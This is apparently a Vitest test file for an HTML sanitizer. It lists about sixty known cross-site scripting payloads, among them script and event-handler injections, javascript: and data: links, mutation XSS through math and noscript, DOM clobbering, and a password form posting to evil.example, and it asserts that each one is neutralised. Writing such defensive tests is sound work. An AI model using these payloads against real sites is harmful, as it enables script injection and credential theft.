// @vitest-environment jsdom
import { afterEach, describe, expect, it } from 'vitest';
import { sanitizeHtml, quietMarkup } from './sanitize-html';

/** Put into the page, as it will be; whatever it did to the window would be seen here. */
function page(html: string): HTMLElement {
  const place = document.createElement('div');
  document.body.append(place);
  place.append(document.importNode(sanitizeHtml(html), true));
  return place;
}

const attributesOf = (place: Element) =>
  [...place.querySelectorAll('*')].flatMap((element) => [...element.attributes]);

afterEach(() => {
  document.body.replaceChildren();
  Reflect.deleteProperty(globalThis, 'pwned');
});

const RUN = 'globalThis.pwned=1';

/** Known attacks on such filters. */
const HOSTILE: readonly (readonly [what: string, html: string])[] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
  ['a script within a script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a module', `<script type="module">${RUN}</script>`],
  ['a handler of a broken picture', `<img src=x onerror="${RUN}">`],
  ['a handler in capitals', `<IMG SRC=x OnErRoR=${RUN}>`],
  ['a handler behind a slash', `<svg/onload=${RUN}>`],
  ['a handler of an animation', `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`],
  [
    'an animation that makes a link',
    '<svg><a><animate attributeName="href" values="javascript:1"/>x</a></svg>',
  ],
  ['a script in a drawing', `<svg><script>${RUN}</script></svg>`],
  ['a foreign object', `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`],
  ['a use of another drawing', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  ['a handler of a fold', `<details open ontoggle=${RUN}><summary>x</summary></details>`],
  ['a handler of a film', `<video><source onerror="${RUN}"></video>`],
  ['a link that runs', '<a href="javascript:alert(1)">x</a>'],
  ['a link that runs, in pieces', '<a href="java\nscript:alert(1)">x</a>'],
  ['a link that runs, behind a tab', '<a href="\tjavascript:alert(1)">x</a>'],
  ['a link that runs, encoded', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['a link that runs, behind a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['a link that is a page', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['an old scheme', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a link to a file', '<a href="file:///etc/passwd">x</a>'],
  ['a link to an own blob', '<a href="blob:http://localhost/1">x</a>'],
  ['a link of an old drawing', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a frame with a page of its own', `<iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ['an object', '<object data="data:text/html;base64,PHNjcmlwdD4="></object>'],
  ['an embedded page', '<embed src="https://evil.example/x.swf">'],
  ['a base for all addresses', '<base href="https://evil.example/">'],
  ['a page that moves on', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['styles for the whole page', '<style>body{display:none}</style>'],
  [
    'a form that sends',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  ],
  ['a field that takes the focus', `<input autofocus onfocus=${RUN}>`],
  ['a button that sends another form', '<button form="login" formaction="https://evil.example">x</button>'],
  ['a choice', '<select><option>x</option></select><textarea>x</textarea>'],
  ['a text that can be written in', '<p contenteditable>x</p>'],
  ['a template with a hidden tree', `<template shadowrootmode="open"><script>${RUN}</script></template>`],
  [
    'a mutation through mathematics',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  ],
  ['a mutation through a title', `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`],
  ['a mutation through noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
  ['a comment that ends early', `<!--><img src=x onerror=${RUN}>-->`],
  ['names that the page has', '<p id="root" class="x" name="body">x</p>'],
  ['a name that hides a function', '<img name="getElementById"><a id="location">x</a>'],
  ['marks of our own', '<p data-question="x" data-stop data-choice="y" data-part="copy-code">x</p>'],
  [
    'a role',
    '<p role="alertdialog" aria-live="assertive" aria-hidden="true" tabindex="0" accesskey="s">x</p>',
  ],
  ['a landmark', '<main><nav><header>x</header></nav></main>'],
  ['a box over the page', '<div style="position:fixed;inset:0;z-index:9999">x</div>'],
  ['a picture in a style', '<p style="background:url(https://evil.example/x.png)">x</p>'],
  [
    'a drawing that asks elsewhere in capitals',
    '<svg><rect fill="URL(https://evil.example/x.svg#y)"/></svg>',
  ],
  ['a mask of an image set', `<svg><rect mask="image-set('https://evil.example/x.png' 1x)"/></svg>`],
  ['a mask with escaped letters', '<svg><rect mask="\\75rl(https://evil.example/x.svg#y)"/></svg>'],
  ['a clip path with a comment in it', '<svg><g clip-path="/**/url(https://evil.example/x#y)"/></svg>'],
  ['a drawing that asks elsewhere', '<svg><rect fill="url(https://evil.example/x.svg#y)"/></svg>'],
  ['a picture of our own server', '<img src="/sign-out">'],
  ['a picture that is a page', '<img src="data:text/html,x"><video poster="javascript:alert(1)"></video>'],
  ['a set of pictures', '<img srcset="https://evil.example/x.png 2x" src="https://a.example/x.png">'],
  ['a sound that plays', '<audio autoplay src="https://a.example/x.mp3"></audio>'],
  ['a custom element', '<x-evil is="x-evil" onclick="1">x</x-evil>'],
];

const FORBIDDEN =
  'script, style, iframe, object, embed, base, meta, link, form, input, button, select, option, textarea, template, ' +
  'math, noscript, main, nav, header, use, animate, foreignObject, x-evil';
const FORBIDDEN_NAMES =
  /^(?:on|data-|aria-)|^(?:id|class|name|role|is|tabindex|accesskey|autoplay|srcset|srcdoc|action|formaction|contenteditable|autofocus|shadowrootmode)$/u;
const ADDRESSES = ['href', 'src', 'poster', 'xlink:href'];

describe('the one sanitizer', () => {
  it.each(HOSTILE)('lets nothing of %s through (ANN-4)', (_, html) => {
    const place = page(html);
    expect(place.querySelectorAll(FORBIDDEN)).toHaveLength(0);
    const left = attributesOf(place);
    expect(left.filter(({ name }) => FORBIDDEN_NAMES.test(name))).toEqual([]);
    expect(left.filter(({ value }) => /position|z-index|\(\s*['"]?https?:/iu.test(value))).toEqual([]);
    const addresses = left.filter(({ name }) => ADDRESSES.includes(name));
    expect(addresses.filter(({ value }) => !/^https?:/u.test(value))).toEqual([]);
    expect(globalThis).not.toHaveProperty('pwned');
  });

  it('leaves the words of what it takes apart', () => {
    expect(page('<form>Name <b>please</b></form>').innerHTML).toBe('Name <b>please</b>');
    expect(page('<main>whole</main>').textContent).toBe('whole');
    expect(page('<a href="javascript:1">read me</a>').innerHTML).toBe('<a>read me</a>');
  });

  it.each(['https://a.example/x?y=1#z', 'http://a.example', 'mailto:a@b.example'])(
    'lets a link lead to %s, in a tab of its own that does not know us',
    (address) => {
      const link = page(`<a href="${address}" target="_top" rel="opener">x</a>`).querySelector('a');
      expect(link).toHaveAttribute('href', address);
      expect(link).toHaveAttribute('target', '_blank');
      expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    },
  );

  it.each(['/sign-out', 'page.html', '//a.example/x', '#part', ''])(
    'takes the address of a link that would lead back to us: %j',
    (address) => {
      expect(page(`<a href="${address}">x</a>`).querySelector('a')).not.toHaveAttribute('href');
    },
  );

  it('shows pictures late and without saying who asks', () => {
    const place = page('<img src="https://a.example/x.png" title="A tree" width="9000" loading="eager">');
    const image = place.querySelector('img');
    expect(image).toHaveAttribute('loading', 'lazy');
    expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
    expect(image).toHaveAttribute('alt', 'A tree');
  });

  it.each([
    ['img', 'data:image/png;base64,AAAA'],
    ['img', 'data:image/svg+xml,%3Csvg/%3E'],
    ['audio', 'data:audio/mpeg;base64,AAAA'],
    ['video', 'data:video/mp4;base64,AAAA'],
    ['video', 'http://a.example/film.mp4'],
  ])('shows a %s from %s', (tag, address) => {
    expect(page(`<${tag} src="${address}"></${tag}>`).querySelector(tag)).toHaveAttribute('src', address);
  });

  it('plays and fetches sound and film only when it is asked to', () => {
    const film = page('<video src="https://a.example/x.mp4" autoplay preload="auto"></video>').querySelector(
      'video',
    );
    expect(film).toHaveAttribute('controls');
    expect(film).toHaveAttribute('preload', 'none');
    expect(film).not.toHaveAttribute('autoplay');
  });

  it('gives a drawing of a size a view box, and leaves others to where they are shown', () => {
    const [sized, bare, whole] = page(
      '<svg width="40px" height="20"></svg><svg></svg><svg viewBox="1 2 3 4"></svg>',
    ).querySelectorAll('svg');
    expect(sized).toHaveAttribute('viewBox', '0 0 40 20');
    expect(bare).not.toHaveAttribute('viewBox');
    expect(whole).toHaveAttribute('viewBox', '1 2 3 4');
  });

  it('gives the parts of a drawing names that no other has', () => {
    const drawing = '<svg><linearGradient id="a"><stop/></linearGradient><rect fill="url(#a)"/></svg>';
    const ids = [page(drawing), page(drawing)].map((place) => place.querySelector('linearGradient')?.id);
    expect(ids[0]).not.toBe(ids[1]);
    expect(ids).not.toContain('a');
    expect(document.querySelector('rect')).toHaveAttribute('fill', `url(#${ids[0] ?? ''})`);
  });

  it('keeps how a text looks and nothing of where it is', () => {
    const styled = page(
      '<span style="color: red; position: absolute; margin: -9px; opacity: 0; font-weight: 700">x</span>',
    ).querySelector('span');
    expect(styled?.style.color).toBe('red');
    expect(styled?.style.fontWeight).toBe('700');
    expect(styled?.style).toHaveLength(2);
  });

  it('lets code say its language and nothing else wear a class', () => {
    const place = page('<pre class="a"><code class="language-c++">x</code></pre><code class="evil">y</code>');
    expect(attributesOf(place).map(({ value }) => value)).toEqual(['language-c++']);
  });
});

it.each([
  ['a handler', '<p onclick="alert(1)">a</p>', '<p >a</p>'],
  ['a handler without quotes', '<img src=x onerror=alert(1)>', '<img src=x >'],
  ['a handler behind a slash', '<svg/onload=alert(1)>', '<svg/>'],
  ['a handler in capitals, over lines', "<b\nONLOAD = 'x()'>b</b>", '<b\n>b</b>'],
  ['a handler without a value', '<p onclick>a</p>', '<p >a</p>'],
])('takes away %s', (_, html, quiet) => {
  expect(quietMarkup(html)).toBe(quiet);
});

it('has a style read under another name', () => {
  expect(quietMarkup('<p style="color:red" title="a">b</p>')).toBe(
    '<p data-quiet-style="color:red" title="a">b</p>',
  );
});

it.each([
  ['words of the text', 'once on="a" and style=b, 1 < 2 on=3 > 2'],
  ['words within a value', '<p title="click on=this style=that" alt=\'on="x"\'>a</p>'],
  ['code', '<code>&lt;p onclick="a"&gt;</code>'],
  ['a tag without its end', '<p onclick="a'],
])('leaves %s', (_, html) => {
  expect(quietMarkup(html)).toBe(html);
});

it('takes no longer than a text is long', () => {
  const begun = '<a "'.repeat(50_000);
  expect(quietMarkup(begun)).toBe(begun);
});
